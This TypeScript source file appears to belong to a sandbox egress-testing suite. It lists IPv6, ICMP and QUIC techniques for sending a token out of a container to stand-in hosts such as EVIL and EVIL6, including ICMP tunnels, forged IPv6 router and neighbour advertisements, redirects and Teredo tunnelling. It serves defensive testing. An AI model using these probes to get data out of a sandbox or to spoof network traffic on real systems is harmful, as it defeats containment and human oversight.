import type { TechniqueClass } from "../technique.ts";

/** The other family: names have no addresses of it here, and nothing carries it. */
export const v6: TechniqueClass = {
  name: "IPv6",
  judged: "network",
  plain: "wire",
  rows: [
    ["v6-tcp", "TCP to an address", "tcp(EVIL6, 443, TOKEN)", "shut", "a plain network of Docker 20.10 has no IPv6"],
    ["v6-udp", "UDP to an address", "udp(EVIL6, 53, TOKEN)", "shut", "a plain network of Docker 20.10 has no IPv6"],
    ["v6-mapped", "an IPv4 address written as IPv6", "tcp('::ffff:' + EVIL, 80, get(BAD))"],
    [
      "v6-handed",
      "a packet handed to the gateway",
      "by(gateway(), ipv6(EVIL6, 17, udp_part(EVIL6, 53, TOKEN, source=link_local(own()))))",
    ],
    [
      "v6-handed-syn",
      "a connection handed to the gateway",
      "by(gateway(), ipv6(EVIL6, 6, tcp_part(EVIL6, 80, TOKEN, source=link_local(own()))))",
    ],
    [
      "v6-gateway-link-local",
      "the gateway's link-local address",
      "by(gateway(), ipv6(link_local(gateway()), 17, udp_part(link_local(gateway()), 53, question(BAD), source=link_local(own()))))",
    ],
    [
      "v6-everybody",
      "everybody on the link (ff02::1)",
      "by('33:33:00:00:00:01', ipv6('ff02::1', 17, udp_part('ff02::1', 9999, TOKEN, source=link_local(own()))))",
    ],
    [
      "v6-routers",
      "a router solicitation",
      "by('33:33:00:00:00:02', ipv6('ff02::2', 58, echo(TOKEN, kind=133, to='ff02::2')))",
    ],
    [
      "v6-advertise",
      "advertising itself as the router",
      "by('33:33:00:00:00:01', ipv6('ff02::1', 58, echo(TOKEN, kind=134, to='ff02::1')))",
    ],
    [
      "v6-neighbour",
      "a forged neighbour advertisement",
      "by('33:33:00:00:00:01', ipv6('ff02::1', 58, echo(TOKEN, kind=136, to='ff02::1')))",
    ],
    [
      "v6-redirect",
      "a redirect",
      "by(gateway(), ipv6(link_local(gateway()), 58, echo(TOKEN, kind=137, to=link_local(gateway()))))",
    ],
    [
      "v6-dhcp",
      "DHCPv6",
      "by('33:33:00:01:00:02', ipv6('ff02::1:2', 17, udp_part('ff02::1:2', 547, TOKEN, source=link_local(own()))))",
    ],
    ["v6-teredo", "Teredo over UDP", "udp(EVIL, 3544, ipv6(EVIL6, 17, TOKEN, 'fe80::1'))"],
  ],
};

export const icmp: TechniqueClass = {
  name: "ICMP",
  judged: "network",
  plain: "internet",
  rows: [
    [
      "icmp-ping",
      "a ping with a message, by the kernel's ping socket",
      "other(EVIL, 1, 0, echo(TOKEN).decode('latin1'), 2)",
    ],
    ["icmp-raw", "a ping by a raw socket", "raw(EVIL, 1, echo(TOKEN))"],
    ["icmp-reply", "an answer that nobody asked for", "raw(EVIL, 1, echo(TOKEN, kind=0))"],
    ["icmp-timestamp", "a timestamp request", "raw(EVIL, 1, echo(TOKEN, kind=13))"],
    ["icmp-mask", "an address mask request", "raw(EVIL, 1, echo(TOKEN, kind=17))"],
    ["icmp-unreachable", "an error message as a tunnel", "raw(EVIL, 1, echo(TOKEN, kind=3))"],
    [
      "icmp-redirect",
      "a redirect for the gateway",
      "by(gateway(), ipv4(GATEWAY, 1, echo(ipv4(EVIL, 17, TOKEN), kind=5, code=1)))",
      "shut",
      "it is for the gateway alone",
    ],
    [
      "icmp-gateway",
      "a ping of the gateway that carries more",
      "raw(GATEWAY, 1, echo(TOKEN))",
      "shut",
      "it is for the gateway alone",
    ],
    ["icmp-real-address", "a ping to an allowed site's real address", "raw(SHARED, 1, echo(TOKEN))"],
  ],
};

export const quic: TechniqueClass = {
  name: "QUIC",
  judged: "network",
  plain: "internet",
  rows: [
    ["quic-address", "to an address", "udp(EVIL, 443, quic(BAD))"],
    ["quic-vip", "to where allowed names are, for a name that is not", "udp(VIP, 443, quic(BAD))"],
    ["quic-vip-allowed", "to where allowed names are, for one of them", "udp(VIP, 443, quic(GOOD))"],
    ["quic-80", "on the port of HTTP", "udp(VIP, 80, quic(BAD))"],
    ["quic-gateway", "to the gateway itself", "udp(GATEWAY, 443, quic(BAD))", "shut", "it is for the gateway alone"],
    ["quic-real-address", "to an allowed site's real address", "udp(SHARED, 443, quic(GOOD))"],
  ],
};
